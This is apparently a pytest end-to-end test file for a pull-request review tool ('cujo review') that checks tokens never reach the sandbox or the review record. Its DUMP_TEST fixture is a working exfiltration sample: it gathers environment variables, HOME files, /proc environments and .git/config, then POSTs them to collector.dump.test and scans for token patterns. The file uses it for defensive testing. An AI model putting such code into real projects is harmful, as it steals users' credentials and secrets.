"""`cujo review OWNER/REPO#N` end to end: a pull request fetched from its remote and reviewed.

The remote is a bare repository on disk holding ``refs/pull/7/head`` as GitHub serves it,
reached three ways: ``OWNER/REPO#7`` through a ``file://`` web address
(``CUJO_GITHUB_WEB_URL``), with the fake GitHub answering the pull request's base and the
fake Messages API judging; its pull request URL on an HTTPS git host on loopback that
needs a token (``GH_TOKEN``); and ``--pr 7`` inside a clone, with ``--open``. The pull
request's test dumps its environment, the files under its HOME, the git configs it can
read and the processes' environments into its output and a POST to a ``.test`` host (the
proxy sinks it): the token must show nowhere. Three reviews, shared by the tests.
"""

from __future__ import annotations

import base64
import json
import os
import re
import secrets
import shutil
import stat
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from cujorun import CUJO, Pending, Review, private_tmpdir
from fakeanthropic import FakeAnthropic, Recorded, tool_use
from fakegithub import FakeGitHubServer, FakeState, make_key
from githttps import PrivateGitServer
from gitrepo import GitRepo

CALC = "def add(a, b):\n    return a + b\n"
CALC_TEST = """\
import unittest

from calc import add


class TestAdd(unittest.TestCase):
    def test_add(self):
        self.assertEqual(add(2, 3), 5)
"""
# Everything a pull request's code could read that might hold the person's token.
DUMP_TEST = """\
import json, os, pathlib, re, unittest, urllib.request

# A token as GitHub and Anthropic issue them, and git's Basic header for x-access-token.
SECRET = re.compile(
    r"gh[pso]_[A-Za-z0-9_]{20,}|sk-ant-[A-Za-z0-9_-]+|eC1hY2Nlc3MtdG9rZW46[A-Za-z0-9+/=]+"
)


def read(path, cap=20000):
    try:
        with open(path, "rb") as f:
            return f.read(cap).decode("utf-8", "replace")
    except Exception as exc:
        return "unreadable: %s" % exc


class TestDump(unittest.TestCase):
    def test_dump(self):
        home = pathlib.Path(os.environ.get("HOME") or "/")
        files = {}
        try:
            for p in sorted(home.rglob("*"))[:300]:
                if p.is_file():
                    files[str(p)] = read(p, 4000)
        except Exception as exc:
            files["error"] = str(exc)
        procs = {p: read("/proc/%s/environ" % p) for p in os.listdir("/proc") if p.isdigit()}
        dump = {
            "env": dict(os.environ),
            "home": files,
            "git_config": read(".git/config"),
            "procs": procs,
        }
        text = json.dumps(dump)
        request = urllib.request.Request(
            "http://collector.dump.test/upload", data=text.encode(), method="POST"
        )
        try:
            # Patient, as a thief would be: the proxy searches the whole body before it
            # answers, which takes a while on a loaded machine.
            urllib.request.urlopen(request, timeout=120).read()
        except Exception:
            pass
        found = sorted(set(SECRET.findall(text)))[:20]
        seen = {"env": len(dump["env"]), "home": len(files), "procs": len(procs)}
        print("cujo-dump", json.dumps(seen), "git_config:", dump["git_config"][:300])
        print("cujo-dump found", json.dumps(found))
"""
BASE = {"requirements.txt": "", "calc.py": CALC, "test_calc.py": CALC_TEST}
HEAD = {"test_dump.py": DUMP_TEST}
NUMBER = 7


@dataclass(frozen=True)
class Remote:
    """The bare repository the pull request lives in, under ``root/octo/calc.git``."""

    root: Path
    main: str
    release: str
    head: str


def make_remote(root: Path) -> Remote:
    """Build octo/calc: main, release (one commit on), and the pull request as refs/pull/7/head."""
    work = GitRepo(root / "work")
    work.write(BASE).commit("calc")
    main = work.sha()
    work.branch("release").checkout("release")
    work.write({"RELEASE": "1.0\n"}).commit("release 1.0")
    release = work.sha()
    work.checkout("main").branch("pr").checkout("pr")
    work.write(HEAD).commit("Add a test")
    head = work.sha()
    work.checkout("main")
    bare = root / "web" / "octo" / "calc.git"
    bare.parent.mkdir(parents=True)
    work.git("clone", "--quiet", "--bare", str(work.path), str(bare))
    # As GitHub serves a pull request: its head under refs/pull/N/head, no branch of its own.
    work.git("push", "--quiet", str(bare), f"pr:refs/pull/{NUMBER}/head")
    work.git("--git-dir", str(bare), "branch", "--quiet", "-D", "pr")
    return Remote(root / "web", main, release, head)


def start(
    tmp: Path, argv: list[str], env: dict[str, str], *, cwd: Path | None = None
) -> tuple[Pending, Path]:
    """Start `cujo review ARGV` with ``env`` over its own record; return it and its record."""
    data = tmp / f"data-{secrets.token_hex(3)}"
    out = tmp / f"out-{secrets.token_hex(3)}"
    out.mkdir()
    full = [str(CUJO), "review", *argv, "--data-dir", str(data)]
    base_env = {k: v for k, v in os.environ.items() if not k.startswith(("CUJO_", "ANTHROPIC_"))}
    for name in ("GH_TOKEN", "GITHUB_TOKEN"):
        base_env.pop(name, None)
    return Pending(full, {**base_env, **env}, out, data, cwd=cwd), data


def everything_written(review: Review, extra: list[Path]) -> bytes:
    """Return every byte the review left: output, record, bundle, detail log."""
    chunks = [review.stdout.encode(), review.stderr.encode()]
    for root in [review.data_dir, *extra]:
        for path in sorted(root.rglob("*")) if root.is_dir() else [root]:
            if path.is_file() and not path.is_symlink():
                chunks.append(path.read_bytes())
    return b"\n".join(chunks)


def secret_forms(token: str) -> list[bytes]:
    """Return the token as it could leak: itself and inside git's Basic header."""
    basic = base64.b64encode(f"x-access-token:{token}".encode())
    return [token.encode(), basic]


def pull_pages(tmp: Path) -> list[Path]:
    return sorted(tmp.glob("cujo-pull-*"))


# --------------------------------------------------------------------------- the reviews


@dataclass
class Reviews:
    remote: Remote
    model_review: Review
    github: FakeState
    model: list[Recorded]
    github_token: str
    private_review: Review
    git_token: str
    private_seen: list[Any]
    tmp: Path


def _model_answers(api: FakeAnthropic) -> None:
    """First an answer citing evidence that does not exist (refused), then a real one."""
    api.call("post_blocking_review", {
        "summary": "Sends the environment out.",
        "findings": [{"title": "exfiltration", "severity": "critical", "evidence": ["nope:1"]}],
    })  # fmt: skip

    def answer_with_real_evidence(request: Recorded) -> None:
        if len(api.requests) != 1:
            return
        # Any id the prompt lists (egress, output, decoy reads: which fit its budget varies);
        # none would make the judge refuse this answer too, and the test say so.
        cited = re.findall(r'"id":\s*"([a-z]+:[a-z_]+:[0-9]+)"', request.text()) or ["none:0"]
        api.reply(
            tool_use(
                "post_blocking_review",
                {
                    "summary": "The test posts the whole environment to collector.dump.test.",
                    "findings": [
                        {
                            "title": "test dumps the environment to a remote host",
                            "severity": "critical",
                            "evidence": [cited[0]],
                        }
                    ],
                },
            )
        )

    api.on_request = answer_with_real_evidence


@pytest.fixture(scope="module")
def reviews(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Reviews]:
    root = tmp_path_factory.mktemp("pr-remote")
    remote = make_remote(root)
    tmp = private_tmpdir()
    key = make_key()
    state = FakeState(app_id=4242, public_key_pem=key.public_pem)
    state.add_installation(77)
    state.add_repo("octo/calc", installation_id=77)
    state.add_pull("octo/calc", NUMBER, head_sha=remote.head, base_ref="release")
    github_token = state.issue_token(77).value
    git_token = "ghp_" + secrets.token_hex(18)
    server = FakeGitHubServer(state).start()
    api = FakeAnthropic()
    _model_answers(api)
    try:
        with PrivateGitServer(remote.root, git_token, root) as git_host:
            model_pending, _ = start(
                tmp,
                [f"octo/calc#{NUMBER}", "--json"],
                {
                    "TMPDIR": str(tmp),
                    "CUJO_GITHUB_WEB_URL": remote.root.as_uri(),
                    "CUJO_GITHUB_API_URL": server.url,
                    "GH_TOKEN": github_token,
                    "ANTHROPIC_API_KEY": "sk-ant-test-" + secrets.token_hex(8),
                    "ANTHROPIC_BASE_URL": api.url,
                },
            )
            private_pending, _ = start(
                tmp,
                [f"{git_host.url}/octo/calc/pull/{NUMBER}", "--json"],
                {
                    "TMPDIR": str(tmp),
                    "GH_TOKEN": git_token,
                    "GIT_SSL_CAINFO": str(git_host.cert),
                    # The token goes to GitHub's hosts only: this one is, as a GHE would be.
                    "CUJO_GITHUB_WEB_URL": git_host.url,
                },
            )
            model_review, private_review = model_pending.wait(), private_pending.wait()
            seen = list(git_host.host.seen)
        yield Reviews(
            remote, model_review, state, list(api.requests), github_token, private_review,
            git_token, seen, tmp,
        )  # fmt: skip
    finally:
        api.close()
        server.stop()
        shutil.rmtree(tmp, ignore_errors=True)


# --------------------------------------------------------------------------- OWNER/REPO#N


def test_owner_repo_number_reviews_the_pull_request_at_github_s_base(reviews: Reviews) -> None:
    review, remote = reviews.model_review, reviews.remote
    verdict = review.verdict
    assert review.code == 1, review
    assert verdict["state"] == "blocked"
    assert verdict["head_sha"] == remote.head
    # GitHub said the base is `release`, not the default branch: the policy came from there.
    assert verdict["base_sha"] == remote.release
    assert verdict["plan"]["policy_from"] == remote.release
    assert verdict["pull_request"] == {
        "repo": "octo/calc",
        "number": NUMBER,
        "url": f"{remote.root.as_uri()}/octo/calc.git#{NUMBER}",
        "base_ref": "release",
        "base_from": "github",
    }
    # GitHub was asked about this pull request, with the token.
    [asked] = reviews.github.calls("GET", f"/repos/octo/calc/pulls/{NUMBER}")
    assert asked.auth.startswith("installation:77")
    record = review.record()
    assert (record.head_sha, record.base_sha) == (remote.head, remote.release)
    assert "octo/calc#7" in review.stderr
    assert remote.head[:12] in review.stderr
    # Its job read as the push of the merge to octo/calc's release, not to a repository
    # named after the throwaway clone it was fetched into.
    plan = json.loads((review.bundle / "plan.json").read_text())
    assert (plan["upstream"]["repository"], plan["upstream"]["branch"]) == ("octo/calc", "release")
    assert plan["push"]["merged"] is True
    assert (
        "url = https://github.com/octo/calc\n"
        in review.report("tests")["commands"][0]["stdout_tail"]
    )


def test_the_local_review_asks_the_model_judge_as_the_relay_does(reviews: Reviews) -> None:
    review = reviews.model_review
    verdict = review.verdict
    assert verdict["judge"] == "model", review
    assert "judge_fallback" not in verdict
    # A hard rule found a critical (the decoys in the POST): only the blocking tool was
    # offered, both times; the answer citing invented evidence was refused and asked again.
    assert any("decoy-egress" in f["rules"] for f in verdict["findings"]), verdict["findings"]
    first, second = reviews.model
    assert first.tools == second.tools == ["post_blocking_review"]
    assert "That answer was rejected" in second.text()  # the invented id was refused
    judged = [f for f in verdict["findings"] if f["rule"] == "judge"]
    assert [f["title"] for f in judged] == ["test dumps the environment to a remote host"]
    assert "collector.dump.test" in verdict["summary"]
    assert review.record().findings[-1].rule == "judge"


def test_the_model_key_never_reaches_the_sandbox(reviews: Reviews) -> None:
    review = reviews.model_review
    tests = review.report("tests")
    said = json.dumps(tests)
    assert "cujo-dump found" in said, "the pull request's dump should be in the tests' report"
    assert "sk-ant-test-" not in said
    assert reviews.github_token not in said


# --------------------------------------------------------------------------- a private remote


def test_a_private_pull_request_url_is_fetched_with_the_token(reviews: Reviews) -> None:
    review, remote = reviews.private_review, reviews.remote
    verdict = review.verdict
    assert review.code == 1, review
    assert verdict["head_sha"] == remote.head
    # No GitHub to ask for this host: the remote's default branch is the base.
    assert verdict["base_sha"] == remote.main
    assert verdict["pull_request"]["base_from"] == "default branch"
    assert verdict["pull_request"]["url"].endswith(f"/octo/calc/pull/{NUMBER}")
    assert verdict["judge"] == "deterministic"
    # git sent the token (and only git: the sandbox cloned the throwaway clone on disk).
    assert reviews.private_seen
    assert all(s.authorized for s in reviews.private_seen)


def test_the_token_is_visible_nowhere_the_pull_request_or_the_record_reaches(
    reviews: Reviews,
) -> None:
    review = reviews.private_review
    # The pull request's code did run and dump what it could see, out and into its output.
    tests = json.dumps(review.report("tests"))
    assert "cujo-dump found" in tests
    assert "git_config: [core]" in tests  # it read the checkout's .git/config
    assert any(
        item.get("host") == "collector.dump.test"
        for f in review.verdict["findings"]
        for item in f["evidence"]
    ), review.verdict["findings"]
    written = everything_written(review, [])
    for form in secret_forms(reviews.git_token):
        assert form not in written
    for form in secret_forms(reviews.github_token):
        assert form not in everything_written(reviews.model_review, [])


def test_the_throwaway_clones_are_gone(reviews: Reviews) -> None:
    assert pull_pages(reviews.tmp) == []


# --------------------------------------------------------------------------- refusals


def test_a_pull_request_the_remote_does_not_have_is_named(tmp_path: Path) -> None:
    remote = make_remote(tmp_path)
    pending, data = start(tmp_path, ["octo/calc#8"], {"CUJO_GITHUB_WEB_URL": remote.root.as_uri()})
    review = pending.wait()
    assert review.code == 3, review
    assert "the remote has no refs/pull/8/head" in review.stderr
    assert not (data / "runs").exists()  # nothing ran


def test_a_private_remote_without_a_token_says_to_set_one(tmp_path: Path) -> None:
    remote = make_remote(tmp_path)
    token = "ghp_" + secrets.token_hex(18)
    no_gh = tmp_path / "bin"
    no_gh.mkdir()
    for tool in ("git", "python3"):
        found = shutil.which(tool)
        assert found
        (no_gh / tool).symlink_to(found)
    with PrivateGitServer(remote.root, token, tmp_path) as host:
        url = f"{host.url}/octo/calc/pull/{NUMBER}"
        cert = {"GIT_SSL_CAINFO": str(host.cert), "PATH": f"{no_gh}:{os.path.dirname(CUJO)}"}
        without = start(tmp_path, [url], cert)[0].wait()
        wrong = start(
            tmp_path, [url], {**cert, "GH_TOKEN": "ghp_wrong", "CUJO_GITHUB_WEB_URL": host.url}
        )[0].wait()
    assert without.code == 3, without
    assert "a private repository needs a token: set GH_TOKEN" in without.stderr
    assert wrong.code == 3, wrong
    assert "the token was refused" in wrong.stderr
    assert "ghp_wrong" not in wrong.stderr + wrong.stdout


# --------------------------------------------------------------------------- --pr N, --open


def test_pr_inside_a_clone_opens_the_run_page_and_reports_in_a_screen(tmp_path: Path) -> None:
    remote = make_remote(tmp_path)
    clone = GitRepo(tmp_path / "clone-parent")
    clone.git("clone", "--quiet", str(remote.root / "octo" / "calc.git"), "calc")
    urls = tmp_path / "opened"
    browser = tmp_path / "browser"
    browser.write_text(f'#!/bin/sh\necho "$1" >> {urls}\n')
    browser.chmod(browser.stat().st_mode | stat.S_IXUSR)
    tmp = private_tmpdir()
    pending, _ = start(
        tmp_path,
        ["--pr", str(NUMBER), "--open"],
        {"BROWSER": str(browser), "TMPDIR": str(tmp)},
        cwd=clone.path / "calc",
    )
    said = pending.wait_for("Ctrl-C to stop it")
    page = urls.read_text().strip()
    run_id = said.split("(run ", 1)[1].split(")", 1)[0]
    assert page.startswith("http://127.0.0.1:")
    assert page.endswith(f"/runs/{run_id}")
    with urllib.request.urlopen(page, timeout=30) as answer:  # loopback: the board itself
        html = answer.read().decode()
    assert run_id in html
    assert "blocked" in html
    # The stages were shown as they went, one line each for start and end; quiet otherwise.
    for stage in ("prepare", "install", "tests", "bundle"):
        assert f"cujo: {stage} ..." in said
        assert re.search(rf"cujo: {stage} (done|failed) \(\d+\.\ds\)", said), said
    assert "tests: test: $" not in said  # the sandbox's detail went to the log (-v shows it)
    pending.interrupt()
    review = pending.wait()
    assert review.code == 1, review
    lines = review.stdout.strip().splitlines()
    assert 4 <= len(lines) <= 24, review.stdout
    paths = ("  record: ", "  bundle: ", "  detail: ")
    assert all(len(line) <= 100 for line in lines if not line.startswith(paths)), review.stdout
    assert lines[0].startswith(f"Cujo verdict: BLOCKED  (run {run_id}")
    assert f"octo/calc#{NUMBER}" in review.stdout
    assert f"head {remote.head[:12]}" in review.stdout
    assert "isolation" in review.stdout
    assert "record: sqlite:///" in review.stdout
    assert f"bundle: {review.data_dir / 'runs' / run_id}\n" in review.stdout
    detail = re.search(r"detail: (\S+\.log)", review.stdout)
    assert detail
    assert "tests: test: $" in Path(detail[1]).read_text()
    assert pull_pages(tmp) == []
    shutil.rmtree(tmp, ignore_errors=True)
